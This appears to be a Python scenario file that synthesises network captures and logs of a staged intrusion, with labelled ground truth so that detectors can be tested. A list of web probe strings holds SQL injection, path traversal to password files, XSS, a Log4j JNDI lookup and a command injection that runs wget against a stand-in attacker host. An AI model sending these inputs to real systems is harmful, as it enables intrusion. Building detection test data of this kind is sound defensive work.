"""A full intrusion inside an ordinary day: from the first scan to the data that leaves.

`python pcaps/intrusion/recipe.py OUT` writes the capture, logs, truth and description into OUT.
"""

import pathlib
import sys

sys.path.insert(0, str(pathlib.Path(__file__).parents[2]))

from pcaps import attack, background, plan
from pcaps.log import LogFile, Shell, shell_log, web_log
from pcaps.scenario import Injection, Scenario, cook
from pcaps.traffic import Dice, Host, Tape

MINUTE = 60.0
HOUR = 3600.0

ATTACKER = Host("203.0.113.77", ttl=46)
SECOND_ATTACKER = Host("203.0.113.78", ttl=46)
CONTROL = Host("198.51.100.23", ttl=49)
DROP = Host("192.0.2.140", ttl=51)
DOMAIN = "telemetry-sync.example"
VICTIM = plan.EXCHANGE
SERVICES = (
    21, 22, 23, 25, 53, 80, 81, 88, 110, 111, 113, 119, 135, 139, 143, 161, 179, 199, 389, 427,
    443, 444, 445, 465, 513, 514, 515, 543, 548, 554, 587, 631, 646, 873, 990, 993, 995, 1025,
    1433, 1521, 1720, 1723, 2049, 2121, 3128, 3306, 3389, 5060, 5432, 5900, 6000, 6379, 8000,
    8008, 8080, 8081, 8443, 8888, 9200, 27017,
)  # fmt: skip
GUESSED = ("root", "admin", "test", "oracle", "postgres", "exchange", "deploy", "backup")
ACCOUNT = "exchange"
LOG_STOPS = 141 * MINUTE
PATHS = (
    "admin", "admin/login", "backup", "bak", "config", "console", "data", "db", "debug", "dev",
    "download", "dump", "editor", "files", "include", "install", "log", "logs", "manage",
    "manager", "old", "phpinfo.php", "private", "public", "server-status", "setup", "sql",
    "static/upload", "system", "temp", "test", "tools", "upload", "user", "users", "web",
    "webadmin", "www", "xml", "zip",
)  # fmt: skip
PROBES = (
    ("/search?q=1%27%20or%20%271%27=%271", 200),
    ("/service/list?id=5%20union%20select%20null,version(),null", 500),
    ("/service/list?id=5%20and%20sleep(5)", 500),
    ("/download?file=..%2f..%2f..%2f..%2fetc%2fpasswd", 403),
    ("/download?file=%252e%252e%252f%252e%252e%252fetc%252fshadow", 403),
    ("/static/..%c0%af..%c0%afboot.ini", 400),
    ("/search?q=%3Cscript%3Ealert(1)%3C/script%3E", 200),
    ("/?x=$%7Bjndi:ldap://203.0.113.77/a%7D", 200),
    ("/ping?host=127.0.0.1;wget%20http://203.0.113.77/x", 404),
    ("/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", 404),
    ("/.git/config", 404),
    ("/.env", 404),
)
"""What the attacker asks the portal for, and what is answered."""
OPEN = frozenset({(VICTIM.ip, 22), (VICTIM.ip, 443), (plan.PORTAL.ip, 80), (plan.PORTAL.ip, 443)})


def draw(tape: Tape, dice: Dice) -> list[Injection]:
    """Draw the day with 42 desks, then the intrusion, step by step."""
    background.working_day(tape, dice, plan.WORKSTATIONS[:42])
    steps = (_scan, _sweep, _guess_desktop, _guess, _beacon, _tunnel, _upload, _probe)
    return [injection for step in steps for injection in step(tape, dice.split(step.__name__))]


def _scan(tape: Tape, dice: Dice) -> list[Injection]:
    start = 72 * MINUTE
    targets = [(VICTIM, port) for port in dice.shuffled(SERVICES)]
    end = attack.knock(tape, dice, start, ATTACKER, targets, gap=0.6, open_ports=OPEN)
    return [
        Injection(
            what="port_scan", start=start, end=end, source=ATTACKER.ip, destination=VICTIM.ip,
            host=VICTIM.ip, detector="port_scan", category="scan",
            note_zh=f"对前置机扫描 {len(SERVICES)} 个端口",
            note_en=f"{len(SERVICES)} ports of the front-end are tried",
        )
    ]  # fmt: skip


def _sweep(tape: Tape, dice: Dice) -> list[Injection]:
    start = 78 * MINUTE
    hosts = [Host(f"10.20.1.{number}") for number in range(8, 40)]
    real = {server.ip for server in plan.SERVERS}
    dark = frozenset(host.ip for host in hosts if host.ip not in real)
    targets = [(host, 22) for host in dice.shuffled(hosts)]
    opened = frozenset({(VICTIM.ip, 22), (plan.BASTION.ip, 22)})
    end = attack.knock(tape, dice, start, ATTACKER, targets, gap=1.2, open_ports=opened, dark=dark)
    return [
        Injection(
            what="sweep", start=start, end=end, source=ATTACKER.ip, destination="10.20.1.0/24",
            host=VICTIM.ip, detector="sweep", category="sweep",
            note_zh="在服务器区逐个地址探测 22 端口", note_en="port 22 is tried across the servers",
        )
    ]  # fmt: skip


def _guess_desktop(tape: Tape, dice: Dice) -> list[Injection]:
    start = 84 * MINUTE
    ends = (SECOND_ATTACKER, plan.REMOTE_DESKTOP)
    end = attack.guess_desktop(tape, dice, start, ends, times=36, gap=9)
    return [
        Injection(
            what="rdp_guessing", start=start, end=end, source=ends[0].ip, destination=ends[1].ip,
            host=ends[1].ip, detector="guessing", category="guessing",
            note_zh="对远程桌面网关猜口令 36 次，未成功",
            note_en="36 guesses at the remote desktop gateway, none succeeds",
        )
    ]  # fmt: skip


def _guess(tape: Tape, dice: Dice) -> list[Injection]:
    start = 95 * MINUTE
    ends = (ATTACKER, VICTIM)
    tried = attack.guess_shell(tape, dice, start, ends, times=120, gap=9)
    end = attack.work_in_shell(tape, dice, tried + 6, ends, keys=70)
    return [
        Injection(
            what="ssh_guessing_then_success", start=start, end=end, source=ATTACKER.ip,
            destination=VICTIM.ip, host=VICTIM.ip, detector="guessing",
            category="guessing_success",
            note_zh="对前置机 SSH 猜口令 120 次后登录成功",
            note_en="120 guesses at SSH of the front-end, then a login",
        ),
        Injection(
            what="ssh_guessing_in_the_log", start=start, end=end, source=ATTACKER.ip,
            destination=VICTIM.ip, host=VICTIM.ip, detector="log_guessing",
            category="guessing_success",
            note_zh=f"前置机日志中登录被拒 120 次，随后 {ACCOUNT} 登录成功",
            note_en=f"the front-end's log tells 120 refusals, then {ACCOUNT} got in",
        ),
        Injection(
            what="log_stopped", start=LOG_STOPS, end=LOG_STOPS + HOUR, source=ATTACKER.ip,
            destination=VICTIM.ip, host=VICTIM.ip, detector="log_silence",
            category="log_silence",
            note_zh="前置机停止上报日志", note_en="the front-end sends no logs any more",
        ),
    ]  # fmt: skip


def _beacon(tape: Tape, dice: Dice) -> list[Injection]:
    start, end = 150 * MINUTE, 9.9 * HOUR
    attack.beacon(tape, dice, start, (VICTIM, CONTROL), until=end, period=300, jitter=0.3)
    return [
        Injection(
            what="beacon", start=start, end=end, source=VICTIM.ip, destination=CONTROL.ip,
            host=VICTIM.ip, detector="beacon", category="beacon",
            note_zh="前置机每 5 分钟（抖动 30%）连接控制端",
            note_en="the front-end calls home every 5 minutes, 30 % jitter",
        )
    ]  # fmt: skip


def _tunnel(tape: Tape, dice: Dice) -> list[Injection]:
    start = 205 * MINUTE
    end = attack.tunnel(tape, dice, start, VICTIM, DOMAIN, questions=360, gap=2.4)
    return [
        Injection(
            what="dns_tunnel", start=start, end=end, source=VICTIM.ip, destination=DOMAIN,
            host=VICTIM.ip, detector="dns_tunnel", category="dns_tunnel",
            note_zh="前置机用 360 个子域名传数据", note_en="data leave in 360 sub-domains",
        )
    ]  # fmt: skip


def _upload(tape: Tape, dice: Dice) -> list[Injection]:
    start = 372 * MINUTE
    end = attack.upload(
        tape, dice, start, (VICTIM, DROP), octets=180_000_000, pieces=6, seconds=240
    )
    return [
        Injection(
            what="upload", start=start, end=end, source=VICTIM.ip, destination=DROP.ip,
            host=VICTIM.ip, detector="upload", category="upload",
            note_zh="前置机向外上传约 180 MB", note_en="about 180 MB leave the front-end",
        )
    ]  # fmt: skip


def _probe(tape: Tape, dice: Dice) -> list[Injection]:
    start, ends = 88 * MINUTE, (ATTACKER, plan.PORTAL)
    paths = [(f"/{path}", 403 if "server" in path else 404) for path in dice.shuffled(PATHS)]
    agent = "Mozilla/5.0 (compatible; probe)"
    browsed = attack.probe_web(
        tape, dice, start, ends, targets=paths, agent=agent, a_connection=20, gap=0.4
    )
    end = attack.probe_web(
        tape, dice, browsed + 60, ends, targets=PROBES, agent=agent, a_connection=6, gap=3
    )
    common = {"source": ends[0].ip, "destination": ends[1].ip, "host": ends[1].ip}
    return [
        Injection(
            what="forced_browsing", start=start, end=browsed, detector="forced_browsing",
            category="web_scan", note_zh=f"向门户网站试探 {len(PATHS)} 个路径",
            note_en=f"{len(PATHS)} paths of the portal are tried", **common,
        ),
        Injection(
            what="web_attack", start=browsed + 60, end=end, detector="web_attack",
            category="web_attack", note_zh="向门户网站发出注入、穿越等攻击请求，未得手",
            note_en="injections and traversals against the portal, none succeeds", **common,
        ),
    ]  # fmt: skip


def write_logs(tape: Tape, dice: Dice) -> list[LogFile]:
    """Write the logs of the front-end, up to when it stops, and of the portal."""
    own = frozenset({plan.BASTION})
    front = Shell(
        host=VICTIM, name="exchange-front", guessed=GUESSED, stranger_gets=ACCOUNT,
        known=frozenset({"root", "backup", ACCOUNT}), until=LOG_STOPS,
    )  # fmt: skip
    portal = Shell(host=plan.PORTAL, name="portal")
    return [
        shell_log(tape, dice.split("front"), front, own),
        shell_log(tape, dice.split("portal"), portal, own),
        web_log(tape, dice.split("web"), plan.PORTAL, "portal"),
    ]


SCENARIO = Scenario(
    id="intrusion",
    seed="intrusion-1",
    name_zh="从扫描到数据外传的入侵",
    name_en="An intrusion, from scan to exfiltration",
    description_zh="外部地址扫描数据共享交换前置机，猜中 SSH 口令，随后出现带抖动的外联、"
    "DNS 隧道和约 180 MB 上传，前置机日志中断；猜口令前还试探过门户网站。"
    "同时有全天办公流量和主机、网站日志。",
    description_en="An outside address scans the data-exchange front-end and guesses its SSH "
    "password; a beacon with jitter, a DNS tunnel and an upload of about 180 MB follow, and the "
    "front-end's log stops. The portal is probed before the guessing. All lies inside a day of "
    "office traffic, with logs of hosts and of the portal.",
    draw=draw,
    logs=write_logs,
)

if __name__ == "__main__":
    cook(SCENARIO, pathlib.Path(sys.argv[1]))
